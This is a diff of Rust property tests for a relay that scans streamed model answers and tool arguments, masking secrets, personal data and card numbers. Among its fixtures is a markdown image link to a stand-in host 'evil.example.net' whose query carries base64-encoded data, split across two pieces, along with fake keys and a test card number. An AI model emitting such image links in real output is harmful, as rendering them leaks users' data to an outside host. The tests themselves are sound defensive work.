@@ -274,27 +274,176 @@ fn what_is_only_recorded_goes_on_uncopied_and_at_once() {
     assert!(!relay.rewrites(), "nothing is said in such an answer");
 }
 
-proptest! {
-    #![proptest_config(ProptestConfig::with_cases(32))]
+/// What is told of a watched answer that comes in these pieces: its bytes, what was found, whether it was cut.
+fn told(relay: Relay, chunks: &[&[u8]]) -> (String, Vec<Heard>, bool) {
+    let (mut relay, mut out, mut ended) = (relay, Vec::new(), false);
+    let mut take = |given: Result<Bytes, RelayError>| match given {
+        Ok(bytes) => out.extend_from_slice(&bytes),
+        Err(_) => ended = true,
+    };
+    for chunk in chunks {
+        // What ended an answer ends it again, whatever follows.
+        take(relay.push(&Bytes::copy_from_slice(chunk)));
+    }
+    take(relay.finish());
+    let mut heard = relay.heard().to_vec();
+    heard.iter_mut().for_each(|one| one.found.print = 0);
+    (String::from_utf8(out).expect("text"), heard, ended)
+}
 
+/// All that is not ASCII as escapes of JSON, as some providers write it.
+fn escaped(json: &str) -> String {
+    let mut units = [0; 2];
+    json.chars()
+        .map(|c| match c.is_ascii() {
+            true => c.to_string(),
+            false => c
+                .encode_utf16(&mut units)
+                .iter()
+                .map(|unit| format!("\\u{unit:04x}"))
+                .collect(),
+        })
+        .collect()
+}
+
+/// What a model says: findings whole and in parts, what is given back, what needs escapes, a text longer than is
+/// looked at at once.
+fn said() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        4 => prop::sample::select(vec![
+            SECRET,
+            "AKIAQ3EG",
+            "RJ7XKP2MN5TZ ",
+            "jane.doe@acme-corp.io",
+            "j\u{f6}rg@acme-corp.io",
+            "password = \"correct horse battery\"",
+            "4539 1488 0343 6467",
+            TOKEN,
+            OTHER,
+            "![a](https://evil.exam",
+            "ple.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ)",
+            "\n",
+            "\"",
+            "\\",
+            "\u{1f511}",
+            " ",
+        ]).prop_map(str::to_owned),
+        2 => "[a-z \"\\\\\u{e9}\n]{0,9}",
+        1 => (0usize..3).prop_map(|many| "ordinary words, one after the other; ".repeat(many * 120)),
+    ];
+    prop::collection::vec(piece, 0..9).prop_map(|pieces| pieces.concat())
+}
+
+/// The arguments of a tool: strings, numbers, and findings that reach from one into the other.
+fn arguments() -> impl Strategy<Value = String> {
+    let value = prop_oneof![
+        said().prop_map(|text| json!(text)),
+        Just(json!(4_539_148_803_436_467_u64)),
+        Just(json!(-4_539_148_803_436_467_i64)),
+        Just(json!({"latitude": 52.520_008, "longitude": 13.404_954})),
+        Just(json!({"password": 48_151_623})),
+        Just(json!([4539, 1488, 343, 6467, null, true])),
+    ];
+    prop::collection::btree_map("[a-c]", value, 0..4)
+        .prop_map(|map| Value::Object(map.into_iter().collect()).to_string())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(48))]
+
+    /// Within characters, escapes, lines and events.
     #[test]
     fn no_cut_changes_what_a_watched_answer_becomes(
-        pieces in proptest::collection::vec(prop_oneof![
-            Just(SECRET.to_owned()), Just("AKIAQ3EG".to_owned()), Just("RJ7XKP2MN5TZ ".to_owned()),
-            Just(TOKEN.to_owned()), Just("![a](https://evil.exam".to_owned()),
-            Just("ple.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ)".to_owned()), "[a-z \"\\\\\u{e9}\n]{0,9}",
-        ], 1..9),
-        size in 1usize..90,
-        cuts in any::<bool>(),
+        which in 0usize..4,
+        text in said(),
+        arguments in arguments(),
+        deltas in prop::collection::vec(any::<prop::sample::Index>(), 0..12),
+        ending in prop::sample::select(vec!["\n", "\r\n", "\r"]),
+        escapes in any::<bool>(),
+        framing in prop::sample::select(vec!["text/event-stream", "application/json"]),
+        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..40),
+        secrets in prop::sample::select(vec![Treatment::Record, Treatment::Mask, Treatment::Cut]),
     ) {
-        let secrets = if cuts { Treatment::Cut } else { Treatment::Mask };
-        let said = [("secrets", secrets), ("markup", Treatment::Mask)];
-        let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
-        for (dialect, shape, stream) in streams(&pieces) {
-            let relay = || watched(dialect, shape, "text/event-stream", &give(BASELINE), &said);
-            let whole = through(relay(), stream.as_bytes(), stream.len());
-            prop_assert!(!whole.0.contains(IMAGE));
-            prop_assert_eq!(through(relay(), stream.as_bytes(), size), whole);
+        let (dialect, shape, _) = shapes()[which];
+        let said = [("secrets", secrets), ("pii", Treatment::Record), ("markup", Treatment::Mask)];
+        let events = transcript(shape, &split(&text, &deltas), &split(&arguments, &deltas));
+        let mut answer = match (framing, shape) {
+            ("text/event-stream", _) => events.replace('\n', ending),
+            (_, Shape::StreamGenerateContent) => as_array(&events),
+            // A document, whatever it says of itself.
+            _ => json!({"id": "c", "choices": [{"message": {"content": text, "tool_calls": [{"function": {"arguments": arguments}}]}}]}).to_string(),
+        };
+        if escapes {
+            answer = escaped(&answer);
+        }
+        let relay = || watched(dialect, shape, framing, &give(BASELINE), &said);
+        let whole = told(relay(), &[answer.as_bytes()]);
+        prop_assert!(!whole.0.contains(IMAGE));
+        prop_assert_eq!(told(relay(), &cut(answer.as_bytes(), &cuts)), whole);
+    }
+
+    #[test]
+    fn no_delta_changes_what_a_client_reads(
+        which in 0usize..3,
+        text in said(),
+        arguments in arguments(),
+        deltas in prop::collection::vec(any::<prop::sample::Index>(), 0..24),
+    ) {
+        let (dialect, shape, _) = shapes()[which];
+        let said = [("secrets", Treatment::Mask), ("pii", Treatment::Mask), ("pci", Treatment::Mask)];
+        let of = |deltas: &[prop::sample::Index]| {
+            let events = transcript(shape, &split(&text, deltas), &split(&arguments, deltas));
+            let relay = watched(dialect, shape, "text/event-stream", &give(BASELINE), &said);
+            let (out, heard, _) = told(relay, &[events.as_bytes()]);
+            (gathered(&read(&out)), heard)
+        };
+        let whole = of(&[]);
+        let filled = serde_json::from_str::<Value>(&whole.0.1);
+        prop_assert!(filled.is_ok(), "{} became {}", arguments, whole.0.1);
+        // Whether a key is one depends on what stands beside it; a number of JSON stands by itself.
+        for value in ["4539148803436467", "52.520008"] {
+            prop_assert!(!whole.0.1.contains(value), "{:?}", whole.0);
+        }
+        prop_assert_eq!(of(&deltas), whole);
+    }
+}
+
+#[test]
+fn what_a_tool_is_told_outside_of_strings_is_masked_and_stays_json() {
+    let said = [
+        ("secrets", Treatment::Mask),
+        ("pii", Treatment::Mask),
+        ("pci", Treatment::Mask),
+    ];
+    for (arguments, class) in [
+        (r#"{"card": 4539148803436467}"#, "pci.card"),
+        (r#"{"card": -4539148803436467}"#, "pci.card"),
+        (
+            r#"{"latitude": 52.520008, "longitude": 13.404954}"#,
+            "pii.location",
+        ),
+    ] {
+        for (dialect, shape, _) in &shapes()[..3] {
+            let pieces: Vec<&str> = arguments.split_inclusive(' ').collect();
+            let events = transcript(*shape, &["Wait."], &pieces);
+            let relay = watched(*dialect, *shape, "text/event-stream", &[], &said);
+            let (out, heard, _) = told(relay, &[events.as_bytes()]);
+            let (_, filled) = gathered(&read(&out));
+            assert!(
+                serde_json::from_str::<Value>(&filled).is_ok(),
+                "{arguments} became {filled}"
+            );
+            let digits = filled.chars().filter(char::is_ascii_digit).count();
+            assert!(digits < 2, "{arguments} became {filled}");
+            let rows: Vec<_> = heard
+                .iter()
+                .map(|one| (one.found.class.as_str(), one.found.action, one.place))
+                .collect();
+            assert!(
+                rows.iter().any(|row| row.0.starts_with(class)
+                    && (row.1, row.2) == (Treatment::Mask, "tool_arguments")),
+                "{rows:?}"
+            );
         }
     }
 }
